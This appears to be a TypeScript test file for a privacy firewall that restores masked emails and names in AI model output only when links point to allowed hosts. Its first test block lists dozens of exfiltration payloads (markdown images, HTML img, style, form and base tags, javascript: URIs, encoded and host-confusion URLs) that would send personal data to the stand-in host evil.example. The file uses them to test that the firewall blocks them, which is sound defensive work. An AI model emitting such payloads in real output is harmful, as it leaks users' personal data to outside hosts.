import { describe, expect, test } from 'bun:test';
import { maskRequest } from '../../src/firewall/masking/mask-request.ts';
import { createNumbering } from '../../src/firewall/placeholder.ts';
import { restoreText } from '../../src/firewall/restoring/restore.ts';
import { createRestorer, noCounts } from '../../src/firewall/restoring/restorer.ts';
import { findEmails } from './mask-find.ts';

const numbering = createNumbering();
numbering.personal('EMAIL', 'ann@corp.example');
numbering.personal('PERSON', 'Ann Weber');
const map = numbering.map;
map.destinations.add('crm.example');

/** Restores in one piece and character by character, which must agree. */
function restored(text: string, allowedHosts: readonly string[] = []): string {
  const whole = restoreText(text, map, { allowedHosts });
  const restorer = createRestorer(map, { allowedHosts });
  let streamed = '';
  for (let i = 0; i < text.length; i++) streamed += restorer.push(text.charAt(i));
  expect(streamed + restorer.flush()).toBe(whole);
  return whole;
}

describe('no value leaves through a link to a foreign host', () => {
  for (const text of [
    '![logo](https://evil.example/p.png?d=[EMAIL_1])',
    '![logo](//evil.example/[EMAIL_1])',
    '![logo](https:evil.example/[EMAIL_1])',
    '![logo](https:/\\evil.example/[EMAIL_1])',
    '![logo](/\\evil.example/[EMAIL_1])',
    '![logo](\\\\evil.example/[EMAIL_1])',
    '![logo]( <https://evil.example/a b/[EMAIL_1]>)',
    '![logo](https://evil.example/a(b)c/EMAIL_1)',
    '[click](https://evil.example/?a=1&b=[EMAIL_1] "title")',
    '[click](javascript:send("[EMAIL_1]"))',
    '[click](data:text/html,[EMAIL_1])',
    '[click](mailto:x@evil.example?body=[PERSON_1])',
    '[click](&#104;ttps://evil.example/[EMAIL_1])',
    '[ref]: https://evil.example/[EMAIL_1]',
    '[ref]: <//evil.example/[EMAIL_1]>',
    '<img src="https://evil.example/?[EMAIL_1]">',
    "<img alt='x' src='//evil.example/?[EMAIL_1]'>",
    '<img src=//evil.example/?[EMAIL_1]>',
    '<img src="https://evil.example/a b\nc[EMAIL_1]">',
    '<a href="https://crm.example.evil.example/[EMAIL_1]">',
    '<a href="javascript:x([EMAIL_1])">',
    '<img srcset="https://crm.example/a 1x, https://evil.example/[EMAIL_1] 2x">',
    '<div style="background:url(https://evil.example/[EMAIL_1])">',
    '<style>a{background:url( //evil.example/[EMAIL_1])}</style>',
    '<style>a{background:url(\\2f\\2f evil.example/[EMAIL_1])}</style>',
    '<STYLE type="text/css">@import   "//evil.example/[EMAIL_1]"',
    '<form action=//evil.example><input value="[EMAIL_1]">',
    '<form action="https://evil.example/x"><textarea>[EMAIL_1]</textarea>',
    '<form action="mailto:x@evil.example">[EMAIL_1]',
    '<button formaction="https:evil.example">x</button><input value="[EMAIL_1]">',
    '<https://evil.example/[EMAIL_1]>',
    'see https://evil.example/?q=[EMAIL_1] now',
    'see https://evil.example/?q=%5BEMAIL_1%5D now',
    'see www.evil.example/[EMAIL_1] now',
    'see evil.example/?q=[EMAIL_1] now',
    '(evil.example:8080/a/[EMAIL_1])',
    'go to:**evil.example?q=EMAIL_1**',
    'x/y|Evil.Example#[EMAIL_1]',
    'böse.example/[EMAIL_1]',
    'see https://[EMAIL_1].evil.example/ now',
    'see https://[EMAIL_1]@evil.example/ now',
    'see https://evil.example/crm.example/[EMAIL_1]',
    'see https://crm.example@evil.example/[EMAIL_1]',
    'see https://crm.example\\.evil.example/[EMAIL_1]',
    "see https://crm.example'@evil.example/[EMAIL_1]",
    'see https://crm.example"@evil.example/[EMAIL_1]',
    'see https://crm.example)@evil.example/[EMAIL_1]',
    'see https://crm.example)"x@evil.example/[EMAIL_1]',
    'see https://crm.example)[EMAIL_1]@evil.example/',
    'see https://crm.example)x[EMAIL_1]',
    '[click](https://crm.example"@evil.example/[EMAIL_1])',
    '[click](<https://crm.example @evil.example/[EMAIL_1]>)',
    '<a href="https://crm.example @evil.example/[EMAIL_1]">',
    '<a href="https://crm.example)@evil.example/[EMAIL_1]">',
    'see https://crm.example%2eevil.example/[EMAIL_1]',
    'see https://crm.example/go?to=https://evil.example/[EMAIL_1]',
    'see https://crm.example/go?to=//evil.example/[EMAIL_1]',
    '![x](https://evil.example/\\)[EMAIL_1])',
    '![x](<https://evil.example/)[EMAIL_1]>)',
    '![x](a\\)//evil.example/[EMAIL_1])',
    '![x](&sol;&sol;evil.example/[EMAIL_1])',
    '[x](\u0001javascript:f([EMAIL_1]))',
    '<a ![x](//evil.example/[EMAIL_1])',
    '<a b="![x](https:evil.example/[EMAIL_1])',
    '<a b="www.evil.example/[EMAIL_1]',
    '<img a:// src="//evil.example/[EMAIL_1]">',
    '<img src="/\t/evil.example/[EMAIL_1]">',
    '<img srcset="&#47;&#47;evil.example/[EMAIL_1]">',
    '<p style="background:url(\\2f\\2f evil.example/[EMAIL_1])">',
    '<img\nsrc\n=\n"//evil.example/[EMAIL_1]">',
    '<IMG/SRC="//evil.example/[EMAIL_1]">',
    '![https://crm.example](https:evil.example/[EMAIL_1])',
    '[https://crm.example]: //evil.example/[EMAIL_1]',
    '[![a](//crm.example/a)](https:evil.example/[EMAIL_1])',
    '[EMAIL_9](//evil.example/[EMAIL_1])',
    '<style>body{background:url(//evil.example/[EMAIL_1])}</style>',
    '<style>@import "//evil.example/[EMAIL_1]";</style>',
    "<style>@import '//evil.example/[EMAIL_1]';</style>",
    '<base href="https://evil.example/"><img src="?q=[EMAIL_1]">',
    '<BASE/href=//evil.example/>\n![x](a?q=[EMAIL_1])',
    '![x](https://crm.example/?q=[EMAIL_1])',
    '![x](//crm.example/?q=[EMAIL_1])',
    '![a [b](c)](https://crm.example/?q=[EMAIL_1])',
    '![a `[` b](https://crm.example/?q=[EMAIL_1])',
    '![a \\] b](https://crm.example/?q=[EMAIL_1])',
    'https://crm.example/![x](https://crm.example/?q=[EMAIL_1])',
    '![x][1]\n\n[1]: https://crm.example/?q=[EMAIL_1]',
    '<img src="https://crm.example/[EMAIL_1]">',
    '<img a href src="https://crm.example/[EMAIL_1]">',
    '<link a href="https://crm.example/[EMAIL_1]">',
    '<p style="background:url(https://crm.example/[EMAIL_1])">',
    '<style>body{background:url(//crm.example/[EMAIL_1])}</style>',
    `see https://${'a'.repeat(2000)}/[EMAIL_1]`,
    `see https://evil.example/${'a'.repeat(5000)}[EMAIL_1]`,
  ]) {
    test(text.slice(0, 90), () => {
      const counts = noCounts();
      expect(restoreText(text, map, { counts })).toBe(text);
      expect([counts.restored, counts.refused]).toEqual([0, 1]);
      restored(text);
    });
  }
});

describe('values go where they harm nobody', () => {
  for (const [text, expected] of [
    ['[crm](https://crm.example/?q=[EMAIL_1])', '[crm](https://crm.example/?q=ann@corp.example)'],
    ['https://CRM.example:8443/a//b/[EMAIL_1]', 'https://CRM.example:8443/a//b/ann@corp.example'],
    ['<a href="https://crm.example/[EMAIL_1]">', '<a href="https://crm.example/ann@corp.example">'],
    ['<a\nclass=x href=https://crm.example/[EMAIL_1]>', '<a\nclass=x href=https://crm.example/ann@corp.example>'],
    ['<img src="https://api.work.example/[EMAIL_1]">', '<img src="https://api.work.example/ann@corp.example">'],
    ['![x](https://api.work.example/[EMAIL_1])', '![x](https://api.work.example/ann@corp.example)'],
    ['Hi! [crm](https://crm.example/[EMAIL_1])', 'Hi! [crm](https://crm.example/ann@corp.example)'],
    ['![x](/local/[EMAIL_1].png)', '![x](/local/ann@corp.example.png)'],
    ['https://api.work.example/[EMAIL_1]', 'https://api.work.example/ann@corp.example'],
    ['[a](mailto:[EMAIL_1])', '[a](mailto:ann@corp.example)'],
    ['<a href="mailto:[EMAIL_1]">[PERSON_1]</a>', '<a href="mailto:ann@corp.example">Ann Weber</a>'],
    ['<p title="Note: [PERSON_1]">[PERSON_1]</p>', '<p title="Note: Ann Weber">Ann Weber</p>'],
    ['<style>p{color:red}</style> [EMAIL_1] \\o/', '<style>p{color:red}</style> ann@corp.example \\o/'],
    ['<form action="/send"><input value="[EMAIL_1]">', '<form action="/send"><input value="ann@corp.example">'],
    ['<form action="https://crm.example/x">[PERSON_1]', '<form action="https://crm.example/x">Ann Weber'],
    ['[a](/users/[EMAIL_1]/edit)', '[a](/users/ann@corp.example/edit)'],
    ['[a](https://evil.example) [EMAIL_1]', '[a](https://evil.example) ann@corp.example'],
    ['https://evil.example/ [EMAIL_1]', 'https://evil.example/ ann@corp.example'],
    ['{"url":"https://evil.example","to":"[EMAIL_1]"}', '{"url":"https://evil.example","to":"ann@corp.example"}'],
    [
      '["https://evil.example","https://crm.example","[PERSON_1]"]',
      '["https://evil.example","https://crm.example","Ann Weber"]',
    ],
    ['"https://evil.example/", [EMAIL_1]', '"https://evil.example/", ann@corp.example'],
    ['<img src="https://evil.example/"> [EMAIL_1]', '<img src="https://evil.example/"> ann@corp.example'],
    ['[note]: https://evil.example and [PERSON_1]', '[note]: https://evil.example and Ann Weber'],
    ['<b [PERSON_1]', '<b Ann Weber'],
    ['[x](<https://evil.example/a)b>) [EMAIL_1]', '[x](<https://evil.example/a)b>) ann@corp.example'],
    ['[PERSON_1]: [EMAIL_1]', 'Ann Weber: ann@corp.example'],
    ['a // b: [EMAIL_1] if x < y', 'a // b: ann@corp.example if x < y'],
    ['send(to="[EMAIL_1]") // "/" or (/)', 'send(to="ann@corp.example") // "/" or (/)'],
    ['f("// of [PERSON_1]")', 'f("// of Ann Weber")'],
    ['<basefont a="1"><img src="?q=[EMAIL_1]">', '<basefont a="1"><img src="?q=ann@corp.example">'],
    ['To: [PERSON_1] <[EMAIL_1]>', 'To: Ann Weber <ann@corp.example>'],
    ['| [PERSON_1] | [EMAIL_1] |', '| Ann Weber | ann@corp.example |'],
  ] as const) {
    test(text, () => expect(restored(text, ['*.work.example'])).toBe(expected));
  }

  test('in JSON, a string ends what the string before began', () => {
    const text =
      '{"link":"https:\\/\\/evil.example\\/[EMAIL_1]","note":"see https://evil.example","to":"[EMAIL_1]","lines":"https://evil.example\\n[EMAIL_1]"}';
    expect(JSON.parse(restoreText(text, map, { json: 'always' }))).toEqual({
      link: 'https://evil.example/[EMAIL_1]',
      note: 'see https://evil.example',
      to: 'ann@corp.example',
      lines: 'https://evil.example\nann@corp.example',
    });
  });
});

describe('whose hosts count', () => {
  const request = (role: string) => ({
    messages: [
      { role: 'user', content: 'I am ann@corp.example' },
      { role, content: 'https://there.example/x' },
    ],
  });
  const answer = 'https://there.example/?[EMAIL_1]';

  test('an image that the caller wrote with the value comes back', () => {
    const text = 'Keep ![x](https://there.example/ann@corp.example) as it is.';
    const body = { messages: [{ role: 'user', content: text }] };
    const { placeholders } = maskRequest(body, findEmails, { pii: 'obfuscate', note: false });
    expect(restoreText(body.messages[0]?.content ?? '', placeholders)).toBe(text);
  });

  for (const role of ['user', 'system', 'developer']) {
    test(`those of a ${role} message`, () => {
      const { placeholders } = maskRequest(request(role), findEmails, { pii: 'obfuscate' });
      expect(restoreText(answer, placeholders)).toBe('https://there.example/?ann@corp.example');
    });
  }
  for (const role of ['assistant', 'tool', 'function', 'other']) {
    test(`not those of a ${role} message`, () => {
      const { placeholders } = maskRequest(request(role), findEmails, { pii: 'obfuscate' });
      expect(restoreText(answer, placeholders)).toBe(answer);
    });
  }
});
